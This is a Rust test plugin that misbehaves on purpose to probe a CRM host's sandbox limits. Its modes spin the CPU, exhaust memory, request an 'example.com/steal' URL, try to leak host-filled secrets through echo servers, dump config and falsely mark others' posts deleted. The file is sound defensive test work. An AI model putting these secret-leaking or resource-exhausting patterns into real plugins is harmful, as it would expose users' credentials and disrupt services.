//! A channel plugin that misbehaves on purpose, for the host's sandbox tests.
//! The config field `mode` selects the misbehaviour of `poll`; `name:N` modes
//! (`alloc:N`, `log:N`, `get:COUNT:/PATH`, ...) go just under or just over a limit.

use std::sync::atomic::{AtomicU32, Ordering};

use socialcrm_sdk::channel::{
    Capabilities, ConfigField, Connector, Descriptor, FieldKind, Header, Outbound, Page, Sent, WebhookRequest,
    WebhookResponse, WebhookResult,
};
use socialcrm_sdk::http::Request;
use socialcrm_sdk::{
    Author, Config, ConfigExt, Direction, PluginError, Post, PostKind, ProfileField, changes, kv, verification,
};

/// Calls seen by this instance: a fresh instance per call keeps it at 1.
static CALLS: AtomicU32 = AtomicU32::new(0);

struct Hostile;

fn post(id: usize, text: String) -> Post {
    Post {
        external_id: id.to_string(),
        kind: PostKind::Mention,
        direction: Direction::Inbound,
        author: Author {
            external_id: "1".into(),
            handle: "mallory".into(),
            display_name: None,
            profile_url: None,
            avatar_url: None,
            bio: None,
            followers: None,
            fields: Vec::new(),
        },
        text,
        url: None,
        thread_id: None,
        in_reply_to: None,
        created_at: "2026-11-23T10:00:00Z".into(),
        language: None,
        raw: "{}".into(),
    }
}

/// Busy forever (until the host's deadline).
fn spin() -> ! {
    let mut n: u64 = 0;
    loop {
        n = std::hint::black_box(n.wrapping_add(1));
    }
}

/// Starts a POST to `target`, writes part of its body, never finishes it, and
/// waits for the response (which cannot come before the body ends).
fn unfinished_body(target: &str) -> Result<Page, PluginError> {
    use wasi::http::types::{Fields, Method, OutgoingRequest, Scheme};
    let failed = |what: &str| PluginError::Transient(format!("unfinished-body: {what}"));
    let authority = target.split_once("://").map_or(target, |(_, rest)| rest);
    let request = OutgoingRequest::new(Fields::new());
    request.set_method(&Method::Post).map_err(|()| failed("method"))?;
    request.set_scheme(Some(&Scheme::Http)).map_err(|()| failed("scheme"))?;
    request
        .set_authority(Some(authority))
        .map_err(|()| failed("authority"))?;
    request
        .set_path_with_query(Some("/upload"))
        .map_err(|()| failed("path"))?;
    let body = request.body().map_err(|()| failed("body"))?;
    let pending = wasi::http::outgoing_handler::handle(request, None).map_err(|e| failed(&format!("{e:?}")))?;
    let stream = body.write().map_err(|()| failed("stream"))?;
    stream
        .blocking_write_and_flush(b"partial")
        .map_err(|e| failed(&format!("{e:?}")))?;
    pending.subscribe().block();
    drop(stream);
    Ok(page(vec![post(1, "answered".into())]))
}

/// The number a `name:N` mode carries.
fn number(arg: &str) -> Result<usize, PluginError> {
    arg.parse()
        .map_err(|_| PluginError::InvalidConfig(format!("`{arg}` is not a number")))
}

/// Posts whose strings add up to exactly `bytes` (as the host counts them),
/// in fields of at most 256 KiB.
fn posts_of(bytes: usize) -> Vec<Post> {
    let mut posts = Vec::new();
    let mut left = bytes;
    while left > 0 {
        let mut post = post(posts.len(), String::new());
        let own = post.external_id.len()
            + post.author.external_id.len()
            + post.author.handle.len()
            + post.created_at.len()
            + post.raw.len();
        let text = left
            .checked_sub(own)
            .expect("room for a post's own strings")
            .min(256 << 10);
        post.text = "x".repeat(text);
        left -= own + text;
        posts.push(post);
    }
    posts
}

/// Writes `bytes` bytes to stderr in lines `0000000\n` of their offset
/// (errors ignored: the host keeps what fits), then traps without a word, so
/// the trap shows the tail of what the host kept.
fn stderr_then_trap(bytes: usize) -> ! {
    let text: Vec<u8> = (0..bytes.div_ceil(8))
        .flat_map(|i| format!("{:07}\n", i * 8).into_bytes())
        .take(bytes)
        .collect();
    let stderr = wasi::cli::stderr::get_stderr();
    for chunk in text.chunks(4096) {
        let _ = stderr.blocking_write_and_flush(chunk);
    }
    std::process::abort()
}

/// `count` requests to `url` (a body of `body` bytes when given): how many
/// got a 2xx, the bytes of their bodies, and the last error.
fn requests(url: &str, count: usize, body: Option<usize>) -> Page {
    let (mut ok, mut bytes, mut error) = (0, 0, String::new());
    for _ in 0..count {
        let request = match body {
            Some(n) => Request::post(url).body(vec![b'x'; n]),
            None => Request::get(url),
        };
        match request.send() {
            Ok(response) if response.status / 100 == 2 => {
                ok += 1;
                bytes += response.body.len();
            }
            Ok(response) => error = format!("status {}", response.status),
            Err(e) => error = e.to_string(),
        }
    }
    page(vec![post(1, format!("{ok} {bytes} {error}").trim_end().to_string())])
}

fn page(posts: Vec<Post>) -> Page {
    Page {
        posts,
        state: "next".into(),
        has_more: false,
    }
}

impl Connector for Hostile {
    fn describe() -> Descriptor {
        Descriptor {
            network: "hostile".into(),
            // Takes webhook calls without checking any signature (handle_webhook).
            capabilities: Capabilities::POLL | Capabilities::WEBHOOK,
            // Lies about plugin.toml: `mode` is no secret there, `extra` is
            // not declared, `target` and `password` are left out.
            config_fields: vec![
                ConfigField {
                    name: "mode".into(),
                    description: String::new(),
                    kind: FieldKind::Text,
                    required: true,
                    secret: true,
                },
                ConfigField {
                    name: "extra".into(),
                    description: String::new(),
                    kind: FieldKind::Text,
                    required: false,
                    secret: false,
                },
            ],
        }
    }

    fn check(_config: Config) -> Result<(), PluginError> {
        Ok(())
    }

    fn poll(config: Config, _state: String) -> Result<Page, PluginError> {
        let calls = CALLS.fetch_add(1, Ordering::SeqCst) + 1;
        // `name:ARG` modes carry a size or count.
        let full = config.require("mode")?;
        let (mode, arg) = full.split_once(':').unwrap_or((full, ""));
        match mode {
            "loop" => spin(),
            "bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "panic" => panic!("hostile plugin panicked on purpose"),
            "denied" => {
                Request::get("https://example.com/steal").send()?;
                Ok(page(Vec::new()))
            }
            "target" => {
                let response = Request::get(format!("{}/ping", config.require("target")?)).send()?;
                Ok(page(vec![post(1, response.text())]))
            }
            "million-posts" => Ok(page((0..1_000_000).map(|i| post(i, String::new())).collect())),
            "huge-field" => Ok(page(vec![post(1, "x".repeat(1 << 20))])),
            "huge-string" => Ok(page(vec![post(1, "x".repeat(100 << 20))])),
            "kv-then-panic" => {
                kv::set("token", b"leaked").map_err(PluginError::Transient)?;
                panic!("after a key-value write")
            }
            "kv" => {
                let previous = kv::get("token").map(|v| String::from_utf8_lossy(&v).into_owned());
                kv::set("token", b"fresh").map_err(PluginError::Transient)?;
                Ok(page(vec![post(1, previous.unwrap_or_default())]))
            }
            "calls" => Ok(page(vec![post(1, calls.to_string())])),
            // `report-changes:ID,...`: reports each id deleted as a post and
            // gone as a user, whoever's they are.
            "report-changes" => {
                for id in arg.split(',') {
                    changes::post_deleted(id);
                    changes::user_gone(id, changes::GoneReason::Deleted);
                }
                Ok(page(Vec::new()))
            }
            // 4 MiB of "verified" marks: the host keeps 1 MiB of them.
            "verify-flood" => {
                let page = page(vec![post(1, String::new())]);
                for i in 0..4096 {
                    let field = ProfileField {
                        name: format!("f{i}"),
                        value: "x".repeat(1024),
                    };
                    verification::verified_field(&page.posts[0].author, &field);
                }
                Ok(page)
            }
            // Every config entry the host handed over, as `name=value` lines.
            "config" => {
                let seen: Vec<String> = config.iter().map(|e| format!("{}={}", e.name, e.value)).collect();
                Ok(page(vec![post(1, seen.join("\n"))]))
            }
            // Waits in host calls, where no epoch deadline can reach: an hour,
            // or the milliseconds of `sleep:MS`.
            "sleep" => {
                kv::set("token", b"from a call cut off").map_err(PluginError::Transient)?;
                let ms = if arg.is_empty() { 3_600_000 } else { number(arg)? };
                std::thread::sleep(std::time::Duration::from_millis(ms as u64));
                Ok(page(vec![post(1, "woke up".into())]))
            }
            "unfinished-body" => unfinished_body(config.require("target")?),
            // Five responses of 100 KB: how many the call may hold.
            "fetch-many" => {
                let target = config.require("target")?;
                let mut got = 0;
                let mut error = String::new();
                for _ in 0..5 {
                    match Request::post(format!("{target}/echo")).body(vec![b'x'; 100_000]).send() {
                        Ok(response) if response.status == 200 => got += 1,
                        Ok(response) => error = format!("status {}", response.status),
                        Err(e) => error = format!("{e:?}"),
                    }
                }
                Ok(page(vec![post(1, format!("{got} {error}"))]))
            }
            // Asks for a secret in a request no `secret-fill` allows.
            "fill-elsewhere" => {
                Request::post(format!("{}/collect", config.require("target")?))
                    .fill_secrets(&["password"])
                    .body(r#"{"password":"{{secret.password}}"}"#)
                    .send()?;
                Ok(page(Vec::new()))
            }
            // Has the host fill a secret into a request to a server that echoes
            // it back (as sent, or reversed), and tries to publish what it got.
            "echo-secret" | "leak-secret" => {
                let path = if config.require("mode")? == "echo-secret" {
                    "echo"
                } else {
                    "reverse"
                };
                let response = Request::post(format!("{}/{path}", config.require("target")?))
                    .fill_secrets(&["password"])
                    .body(r#"{"password":"{{secret.password}}"}"#)
                    .send()?;
                let learned: String = if path == "echo" {
                    response.text()
                } else {
                    response.text().chars().rev().collect()
                };
                socialcrm_sdk::log::warn(&format!("learned {learned}"));
                if path == "echo" {
                    Ok(page(vec![post(1, learned)]))
                } else {
                    Err(PluginError::Transient(format!("learned {learned}")))
                }
            }
            // Sizes and counts just under and just over a limit.
            "alloc" => {
                let hoard = vec![1u8; number(arg)?];
                std::hint::black_box(&hoard);
                Ok(page(vec![post(1, hoard.len().to_string())]))
            }
            "posts" => Ok(page((0..number(arg)?).map(|i| post(i, String::new())).collect())),
            "field" => Ok(page(vec![post(1, "x".repeat(number(arg)?))])),
            "output" => Ok(page(posts_of(number(arg)?))),
            "kv-fill" => {
                // The key's 4 bytes count too.
                let value = vec![b'x'; number(arg)?.saturating_sub(4)];
                kv::set("fill", &value).map_err(PluginError::Transient)?;
                Ok(page(vec![post(1, value.len().to_string())]))
            }
            "log" => {
                let lines = number(arg)?;
                for i in 1..=lines {
                    socialcrm_sdk::log::info(&format!("line {i}"));
                }
                Ok(page(vec![post(1, lines.to_string())]))
            }
            "stderr" => stderr_then_trap(number(arg)?),
            // `get:COUNT:/PATH`: COUNT requests to the target's PATH.
            "get" => {
                let (count, path) = arg.split_once(':').unwrap_or((arg, "/ping"));
                Ok(requests(
                    &format!("{}{path}", config.require("target")?),
                    number(count)?,
                    None,
                ))
            }
            // `upload:N`: one POST of N bytes.
            "upload" => {
                let url = format!("{}/upload", config.require("target")?);
                Ok(requests(&url, 1, Some(number(arg)?)))
            }
            _ => Err(PluginError::InvalidConfig(format!("unknown mode `{full}`"))),
        }
    }

    /// `loop` never answers; any other mode echoes: the query string back as
    /// the body (a verification challenge), and each body line `ID TEXT` as a post.
    fn handle_webhook(config: Config, request: WebhookRequest) -> Result<WebhookResult, PluginError> {
        if config.require("mode")? == "loop" {
            spin();
        }
        let body = String::from_utf8(request.body).map_err(|_| PluginError::Permanent("not UTF-8".into()))?;
        let posts = body
            .lines()
            .filter_map(|line| line.split_once(' '))
            .map(|(id, text)| Post {
                external_id: id.to_string(),
                ..post(0, text.to_string())
            })
            .collect();
        Ok(WebhookResult {
            response: WebhookResponse {
                status: 200,
                headers: vec![Header {
                    name: "x-echo-method".into(),
                    value: request.method.into_bytes(),
                }],
                body: request.query.into_bytes(),
            },
            posts,
        })
    }

    fn send(_config: Config, _message: Outbound) -> Result<Sent, PluginError> {
        Err(PluginError::Permanent("cannot send".into()))
    }
}

socialcrm_sdk::export_channel!(Hostile);
